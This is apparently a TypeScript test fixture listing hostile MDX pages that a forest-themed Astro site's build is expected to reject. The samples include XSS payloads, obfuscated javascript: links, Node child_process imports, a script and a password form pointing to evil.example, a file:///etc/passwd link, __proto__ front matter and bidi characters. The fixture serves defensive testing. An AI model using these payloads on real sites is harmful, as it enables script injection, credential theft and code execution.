/** A page that must never be built, with the line of its first fault. */
export type HostilePage = readonly [story: string, page: string, line: number];

const FRONT_MATTER = '---\ntitle: "Why forests"\ndescription: "What a forest does for everybody."\norder: 10\ngroup: "threats"\n---\n';

/** The text of a page below its front matter of six lines. */
export function samplePage(body: string): string {
  return `${FRONT_MATTER}${body}\n`;
}

/**
 * Pages that run code, load something, or become more than prose, each in another way. Code writes the file `marker`; beside the
 * page stand `evil.js` and `evil.ts`, which write it when they are loaded.
 */
export function hostilePages(marker: string): HostilePage[] {
  const write = `(await import('node:fs')).writeFileSync('${marker}', '')`;
  const inline = `process.getBuiltinModule('fs').writeFileSync('${marker}', '')`;
  const bodies = [...runsCode(write, inline), ...loads(), ...isNoProse(inline), ...leadsAstray()];
  return [...bodies.map(([story, body, line = 7]) => [story, samplePage(body), line] as const), ...frontMatter()];
}

type Body = readonly [story: string, body: string, line?: number];

function runsCode(write: string, inline: string): Body[] {
  return [
    ['an export that writes a file', `Prose.\n\nexport const x = ${write}`, 9],
    ['a function that is exported', `export function x() { ${inline} }\n\n{x()}`],
    ['a default export in place of the page', 'export default () => "gone"'],
    ['an export inside a component', `<Note>\n\nexport const x = ${write}\n\n</Note>`, 9],
    ['an export behind a byte order mark', `\uFEFF\n\nexport const x = ${write}`, 9],
    ['an expression between paragraphs', `Prose.\n\n{${inline}}`, 9],
    ['an expression in a sentence', `Trees {${inline}} hold water.`],
    ['an expression in a heading', `## Water {${inline}}`],
    ['an expression in a table', `| a | b |\n| - | - |\n| c | {${inline}} |`, 9],
    ['an expression in a list, in a quotation', `> - one\n> - {${inline}}`, 8],
    ['an expression in a link', `[{${inline}}](../act/index.html)`],
    ['an expression indented as if it were code', `    {${inline}}`],
    ['a template in an expression', '{`${' + inline + '}`}'],
    ['a comment of code', 'Trees {/* nothing */} hold water.'],
    ['a setting that is code', `<Chart id={${inline}} />`],
    ['a style that is code', '<Note style={{ color: "red" }}>Water.</Note>'],
    ['settings spread from code', `<Chart {...${inline}} />`],
    ['settings spread over lines', `<Note\n  {...(${inline} ?? {})}\n>Water.</Note>`],
    ['a component as a setting', `<Note title={<Chart id={${inline}} />}>Water.</Note>`],
    ['a component with code in a link in a list', `- [<Chart id={${inline}} />](../act/index.html)`],
  ];
}

function loads(): Body[] {
  return [
    ['an import of a module', "import './evil.js'\n\nProse."],
    ['an import of all of it', "import * as evil from './evil.js'"],
    ['an import that a sentence hides', "Prose.\n\nimport evil, {\n  x,\n} from './evil.js'", 9],
    ['an export of what another module holds', "export * from './evil.js'"],
    ['an import of a module of Node', "import { execSync } from 'node:child_process'"],
    ['an import of a virtual module', "import { getCollection } from 'astro:content'"],
    ['an import of the site’s settings', "import config from 'virtual:astro:config'"],
    ['an import as an address', "import x from 'data:text/javascript,export default 1'"],
    ['a picture that is a module', '![a tree](./evil.js)'],
    ['a picture that is source code', '![a tree](./evil.ts?raw)'],
    ['a picture that is a module with a query', '![a tree](./evil.js?x.png)'],
    ['a picture that is a module with a part', '![a tree](./evil.js#x.png)'],
    ['a picture whose description turns the direction', '![a &#x202E;tree](../../pictures/map.svg)'],
    ['a picture whose address is encoded', '![a tree](./evil%2Ejs)'],
    ['a picture with a query that is encoded', '![a tree](./evil.js%3Fx.png)'],
    ['a picture by reference', '![a tree][evil]\n\n[evil]: ./evil.js'],
    ['a picture by its own name', '![evil]\n\n[evil]: ./evil.js'],
    ['a picture in a link', '[![a tree](./evil.js)](../act/index.html)'],
    ['a picture in a component', '<Note>\n  ![a tree](./evil.js)\n</Note>', 8],
    ['a picture of this machine', '![a tree](/etc/hostname.png)'],
    ['a picture of another site', '![a tree](https://evil.example/x.png)'],
    ['a picture of another site without its scheme', '![a tree](//evil.example/x.png)'],
    ['a picture of another site with backslashes', '![a tree](\\\\\\\\evil.example/x.png)'],
    ['a picture that holds itself', '![a tree](data:image/svg+xml,%3Csvg/%3E)'],
    ['a picture of a virtual module', '![a tree](virtual:x.png)'],
    ['a picture’s name with a sign that nobody sees', '![a tree](../../pictures/map\u200B.svg)'],
  ];
}

function isNoProse(inline: string): Body[] {
  return [
    ['a script', '<script>alert(1)</script>'],
    ['a script in a sentence', 'Trees <script src="https://evil.example/x.js"></script> hold water.'],
    ['a style', '<style>{`* { display: none }`}</style>'],
    ['a picture as an element', '<img src="x" onerror="alert(1)" />'],
    ['a frame', '<iframe src="https://evil.example/"></iframe>'],
    ['a form', '<form action="https://evil.example/"><input name="password" /></form>'],
    ['an element that is harmless', 'Trees <b>hold</b> water.'],
    ['an element in a table in a component', '<Note>\n\n| a |\n| - |\n| <b>c</b> |\n\n</Note>', 11],
    ['an element of its own name', '<x-tree></x-tree>'],
    ['a drawing', '<svg onload="alert(1)"></svg>'],
    ['a change of the page’s address', '<meta http-equiv="refresh" content="0;url=https://evil.example/" />'],
    ['a component without a name', '<>Water.</>'],
    ['a component that the site has not', '<Fragment set:html="<script>alert(1)</script>" />'],
    ['a component in a component', '<Note.constructor />'],
    ['a component of what every object has', '<constructor />'],
    ['an element that Astro makes of pictures', '<astro-image src="./evil.js" />'],
    ['a component that runs for the reader', '<Note client:load>Water.</Note>'],
    ['a component whose content is raw', '<Note set:html="<script>alert(1)</script>" />'],
    ['a component that listens', '<Note onclick="alert(1)">Water.</Note>'],
    ['a component with a style', '<Note style="position:fixed">Water.</Note>'],
    ['a component whose setting holds signs of code', `<Chart id="x'+${inline}+'" />`],
    ['a setting without a value', '<Chart id />'],
    ['a title of its own', '# The forest'],
    ['a title underlined', 'The forest\n=========='],
    ['a heading too deep', '##### Water'],
    ['a text that turns the direction', 'Trees hold &#x202E;water.'],
    ['a text that commands a terminal', 'Trees hold \u001B[2Jwater.'],
    ['a footnote', 'Trees hold water.[^1]\n\n[^1]: They do.'],
  ];
}

function leadsAstray(): Body[] {
  const addresses = [
    'javascript:alert(1)',
    'JaVaScRiPt:alert(1)',
    'javascript&colon;alert(1)',
    '&#106;avascript:alert(1)',
    '<java\tscript:alert(1)>',
    'java&NewLine;script:alert(1)',
    '&#1;javascript:alert(1)',
    '<\u00A0javascript:alert(1)>',
    'vbscript:x',
    'data:text/html,%3Cscript%3Ealert(1)%3C/script%3E',
    'file:///etc/passwd',
    'blob:https://forest.example/x',
    'http://forest.example/',
    '//evil.example/',
    '/\\\\evil.example/',
    '\\\\\\\\evil.example/',
    '/act/index.html',
    'https:evil.example',
    'https:\\\\\\\\evil.example',
    'https://forest.example@evil.example/',
    'https://evil',
    'mailto:press@forest.example?bcc=spy@evil.example',
    'tel:*%2306%23',
    'intent://x#Intent;end',
    'https://forest.example/\u202Egnp.exe',
    '<>',
  ];
  return [
    ...addresses.map((address) => [`a link to ${JSON.stringify(address)}`, `Read [this](${address}).`] as const),
    ['a reference to an address that runs', '[this][that]\n\n[that]: javascript:alert(1)', 9],
    ['a title that is a link that runs', '## [this](javascript:alert(1))'],
  ];
}

function frontMatter(): HostilePage[] {
  const fields = (lines: string) => `---\ntitle: "Why"\ndescription: "What."\norder: 10\ngroup: "threats"\n${lines}\n---\nProse.\n`;
  return [
    ['a layout that is a module', fields('layout: ./evil.js'), 1],
    ['a layout that is loaded from elsewhere', fields('layout: "data:text/javascript,1"'), 1],
    ['another address for the page', fields('slug: index'), 1],
    ['a field of its own', fields('draft: true'), 1],
    ['a field of Astro', fields('"astro:head": "<script>"'), 1],
    ['a field that every object has', fields('__proto__:\n  layout: ./evil.js'), 1],
    ['a title that turns the direction', fields('').replace('Why', 'Wh\\u202Ey'), 1],
    ['a title that is a list', '---\ntitle: ["Why"]\ndescription: "What."\norder: 10\ngroup: "threats"\n---\nProse.\n', 1],
    ['front matter in TOML', '+++\ntitle = "Why"\ndescription = "What."\norder = 10\ngroup = "threats"\n+++\nProse.\n', 1],
    ['front matter whose end is more than hyphens', '---\ntitle: "Why"\ndescription: "What."\norder: 10\ngroup: "threats"\n---x\n---\n', 6],
    ['front matter that ends as TOML', '---\ntitle: "Why"\ndescription: "What."\norder: 10\ngroup: "threats"\n+++\n---\n', 6],
    ['front matter behind a line', '\n---\ntitle: "Why"\ndescription: "What."\norder: 10\ngroup: "threats"\nlayout: ./evil.js\n---\n', 1],
    ['no front matter', 'Prose.\n', 1],
  ];
}
